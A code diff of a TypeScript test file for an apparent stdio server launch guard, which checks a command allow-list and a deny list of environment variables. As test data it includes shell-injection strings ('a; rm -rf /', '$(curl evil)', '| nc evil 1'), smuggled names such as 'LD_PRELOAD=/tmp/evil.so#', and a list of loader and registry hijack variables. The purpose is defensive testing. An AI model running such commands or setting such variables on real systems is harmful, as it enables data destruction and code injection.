@@ -1,8 +1,11 @@
-import { DEFAULT_DENIED_ENV, isDeniedEnv, parseEnvNameList, resolveDeniedEnv } from './denied-env';
+import { DEFAULT_DENIED_ENV, resolveDeniedEnv } from './denied-env';
 import { checkStdioLaunch } from './stdio-guard';
 
 const OPEN = { deniedEnv: DEFAULT_DENIED_ENV };
-const ALLOW_LIST = { allowedCommands: ['npx', 'uvx', '/usr/local/bin/mcp-server'], deniedEnv: DEFAULT_DENIED_ENV };
+const ALLOW_LIST = {
+  allowedCommands: ['npx', 'uvx', '/usr/local/bin/mcp-server'],
+  deniedEnv: DEFAULT_DENIED_ENV,
+};
 
 describe('checkStdioLaunch', () => {
   it.each([
@@ -12,13 +15,31 @@ describe('checkStdioLaunch', () => {
     ['python3.12', ['-m', 'mcp_server']],
     ['/usr/local/bin/mcp-server', []],
     ['/opt/mcp-servers/fs_server-1.2+build', []],
-    ['npx', ['some-server', 'a; rm -rf /', '$(curl evil)', '`id`', '| nc evil 1', '&& reboot', "'quoted'", '\n']],
+    [
+      'npx',
+      [
+        'some-server',
+        'a; rm -rf /',
+        '$(curl evil)',
+        '`id`',
+        '| nc evil 1',
+        '&& reboot',
+        "'quoted'",
+        '\n',
+      ],
+    ],
   ])('accepts %j with args %j', (command, args) => {
     expect(checkStdioLaunch({ command, args }, OPEN)).toEqual([]);
   });
 
   it('accepts ordinary env variables', () => {
-    const env = { GITHUB_TOKEN: 'x; rm -rf /', API_KEY: '$(id)', LOG_LEVEL: 'debug', _private: '1', lowercase_name: 'v' };
+    const env = {
+      GITHUB_TOKEN: 'x; rm -rf /',
+      API_KEY: '$(id)',
+      LOG_LEVEL: 'debug',
+      _private: '1',
+      lowercase_name: 'v',
+    };
 
     expect(checkStdioLaunch({ command: 'npx', env }, OPEN)).toEqual([]);
   });
@@ -63,7 +84,10 @@ describe('checkStdioLaunch', () => {
     const issues = checkStdioLaunch({ command }, OPEN);
 
     expect(issues).toHaveLength(1);
-    expect(issues[0]).toMatchObject({ field: 'config.command', code: 'COMMAND_INVALID' });
+    expect(issues[0]).toMatchObject({
+      field: 'config.command',
+      code: 'COMMAND_INVALID',
+    });
   });
 
   it('does not also report an invalid command as not allowed', () => {
@@ -73,9 +97,14 @@ describe('checkStdioLaunch', () => {
   });
 
   describe('with an allow-list', () => {
-    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])('accepts %j', (command) => {
-      expect(checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST)).toEqual([]);
-    });
+    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])(
+      'accepts %j',
+      (command) => {
+        expect(
+          checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST),
+        ).toEqual([]);
+      },
+    );
 
     it.each([
       ['sh', 'shell by name'],
@@ -86,7 +115,9 @@ describe('checkStdioLaunch', () => {
       ['mcp-server', 'the basename of an allowed path'],
       ['NPX', 'different case'],
     ])('refuses %j (%s)', (command) => {
-      expect(checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST)).toEqual([
+      expect(
+        checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST),
+      ).toEqual([
         {
           field: 'config.command',
           code: 'COMMAND_NOT_ALLOWED',
@@ -96,11 +127,45 @@ describe('checkStdioLaunch', () => {
     });
 
     it('treats an empty list as no restriction', () => {
-      expect(checkStdioLaunch({ command: 'sh' }, { allowedCommands: [], deniedEnv: [] })).toEqual([]);
+      expect(
+        checkStdioLaunch(
+          { command: 'sh' },
+          { allowedCommands: [], deniedEnv: { families: [], allowed: [] } },
+        ),
+      ).toEqual([]);
     });
   });
 
   describe('env', () => {
+    it.each([
+      'OPENSSL_CONF',
+      'OPENSSL_MODULES',
+      'OPENSSL_ENGINES',
+      'HOME',
+      'XDG_CONFIG_HOME',
+      'PIP_INDEX_URL',
+      'PIP_CONFIG_FILE',
+      'UV_INDEX_URL',
+      'UV_DEFAULT_INDEX',
+      'DOCKER_HOST',
+      'GIT_EXTERNAL_DIFF',
+      'YARN_NPM_REGISTRY_SERVER',
+      'BUN_CONFIG_REGISTRY',
+      'COREPACK_NPM_REGISTRY',
+      'CURL_HOME',
+      'WGETRC',
+      'RUBYGEMS_GEMDEPS',
+    ])('refuses %s, which an attack got through', (name) => {
+      expect(
+        checkStdioLaunch({ command: 'node', env: { [name]: '/tmp/x' } }, OPEN),
+      ).toEqual([
+        expect.objectContaining({
+          field: `config.env.${name}`,
+          code: 'ENV_NOT_ALLOWED',
+        }),
+      ]);
+    });
+
     it.each([
       'LD_PRELOAD',
       'LD_LIBRARY_PATH',
@@ -134,27 +199,57 @@ describe('checkStdioLaunch', () => {
       'NPM_CONFIG_SCRIPT_SHELL',
       'Npm_Config_Registry',
     ])('refuses %s', (name) => {
-      expect(checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
-        expect.objectContaining({ field: `config.env.${name}`, code: 'ENV_NOT_ALLOWED' }),
+      expect(
+        checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN),
+      ).toEqual([
+        expect.objectContaining({
+          field: `config.env.${name}`,
+          code: 'ENV_NOT_ALLOWED',
+        }),
       ]);
     });
 
-    it.each(['LD_PRELOAD=/tmp/evil.so#', 'NODE_OPTIONS=--require=/tmp/x', 'A B', 'A\nLD_PRELOAD', '', '1ABC', 'NAME-WITH-DASH'])(
+    it.each([
+      'LD_PRELOAD=/tmp/evil.so#',
+      'NODE_OPTIONS=--require=/tmp/x',
+      'A B',
+      'A\nLD_PRELOAD',
+      '',
+      '1ABC',
+      'NAME-WITH-DASH',
+    ])(
       'refuses the malformed name %j, which could smuggle another variable',
       (name) => {
-        expect(checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN)).toEqual([
-          { field: `config.env.${name}`, code: 'ENV_NOT_ALLOWED', message: 'not a valid environment variable name' },
+        expect(
+          checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN),
+        ).toEqual([
+          {
+            field: `config.env.${name}`,
+            code: 'ENV_NOT_ALLOWED',
+            message: 'not a valid environment variable name',
+          },
         ]);
       },
     );
 
     it('matches exact names case-sensitively, as the loaders read them', () => {
-      expect(checkStdioLaunch({ command: 'npx', env: { ld_preload: 'x', node_options: 'y', Path: 'z' } }, OPEN)).toEqual([]);
+      expect(
+        checkStdioLaunch(
+          {
+            command: 'npx',
+            env: { ld_preload: 'x', node_options: 'y', Path: 'z' },
+          },
+          OPEN,
+        ),
+      ).toEqual([]);
     });
 
     it('reports every offending variable and the command together', () => {
       const issues = checkStdioLaunch(
-        { command: 'sh', env: { LD_PRELOAD: 'a', SAFE: 'b', npm_config_script_shell: 'c' } },
+        {
+          command: 'sh',
+          env: { LD_PRELOAD: 'a', SAFE: 'b', npm_config_script_shell: 'c' },
+        },
         ALLOW_LIST,
       );
 
@@ -166,61 +261,45 @@ describe('checkStdioLaunch', () => {
       expect(issues[1]?.message).toContain('STDIO_ALLOWED_ENV');
     });
 
-    it('uses the denied list it is given', () => {
-      const spec = { command: 'npx', env: { PATH: '/opt/bin', CUSTOM_HOOK: 'x' } };
-
-      expect(checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) })).toEqual([]);
-      expect(checkStdioLaunch(spec, { deniedEnv: ['CUSTOM_HOOK'] })).toEqual([
-        expect.objectContaining({ field: 'config.env.CUSTOM_HOOK' }),
+    it('names the family and the override in the message', () => {
+      expect(
+        checkStdioLaunch(
+          { command: 'node', env: { OPENSSL_CONF: '/tmp/evil.cnf' } },
+          OPEN,
+        ),
+      ).toEqual([
+        {
+          field: 'config.env.OPENSSL_CONF',
+          code: 'ENV_NOT_ALLOWED',
+          message:
+            'OPENSSL_CONF is refused: TLS library configuration can load code or write session keys to a file; an operator can allow it with STDIO_ALLOWED_ENV',
+        },
       ]);
     });
-  });
-});
 
-describe('isDeniedEnv', () => {
-  it('matches a prefix entry in any case and an exact entry only exactly', () => {
-    const denied = ['npm_config_*', 'LD_PRELOAD'];
+    it('uses the denied families it is given', () => {
+      const spec = {
+        command: 'npx',
+        env: { PATH: '/opt/bin', CUSTOM_HOOK: 'x' },
+      };
+      const custom = {
+        family: 'custom hooks',
+        why: 'run code',
+        names: ['CUSTOM_HOOK'],
+        prefixes: [],
+      };
 
-    expect(isDeniedEnv('NPM_CONFIG_USERCONFIG', denied)).toBe(true);
-    expect(isDeniedEnv('npm_config_', denied)).toBe(true);
-    expect(isDeniedEnv('npm_configx', denied)).toBe(false);
-    expect(isDeniedEnv('LD_PRELOAD', denied)).toBe(true);
-    expect(isDeniedEnv('LD_PRELOAD_X', denied)).toBe(false);
-    expect(isDeniedEnv('Ld_Preload', denied)).toBe(false);
-  });
-});
+      expect(
+        checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) }),
+      ).toEqual([]);
+      const issues = checkStdioLaunch(spec, {
+        deniedEnv: { families: [custom], allowed: [] },
+      });
 
-describe('resolveDeniedEnv', () => {
-  it('removes only the names an operator allows', () => {
-    const denied = resolveDeniedEnv(['PATH', 'NODE_EXTRA_CA_CERTS', 'NOT_IN_LIST']);
-
-    expect(denied).not.toContain('PATH');
-    expect(denied).not.toContain('NODE_EXTRA_CA_CERTS');
-    expect(denied).toHaveLength(DEFAULT_DENIED_ENV.length - 2);
-    expect(denied).toContain('LD_PRELOAD');
-  });
-
-  it('allows a prefix only when the prefix itself is named, in any case', () => {
-    expect(resolveDeniedEnv(['npm_config_registry'])).toContain('npm_config_*');
-    expect(resolveDeniedEnv(['NPM_CONFIG_*'])).not.toContain('npm_config_*');
-  });
-
-  it('is case-sensitive for exact names', () => {
-    expect(resolveDeniedEnv(['ld_preload'])).toContain('LD_PRELOAD');
-  });
-
-  it('returns a copy of the default list when nothing is allowed', () => {
-    const denied = resolveDeniedEnv([]);
-
-    expect(denied).toEqual(DEFAULT_DENIED_ENV);
-    expect(denied).not.toBe(DEFAULT_DENIED_ENV);
-  });
-});
-
-describe('parseEnvNameList', () => {
-  it('splits on commas and whitespace and drops empties', () => {
-    expect(parseEnvNameList(' PATH, NODE_EXTRA_CA_CERTS\nnpm_config_*,, ')).toEqual(['PATH', 'NODE_EXTRA_CA_CERTS', 'npm_config_*']);
-    expect(parseEnvNameList(undefined)).toEqual([]);
-    expect(parseEnvNameList('')).toEqual([]);
+      expect(issues.map((issue) => issue.field)).toEqual([
+        'config.env.CUSTOM_HOOK',
+      ]);
+      expect(issues[0]?.message).toContain('custom hooks run code');
+    });
   });
 });
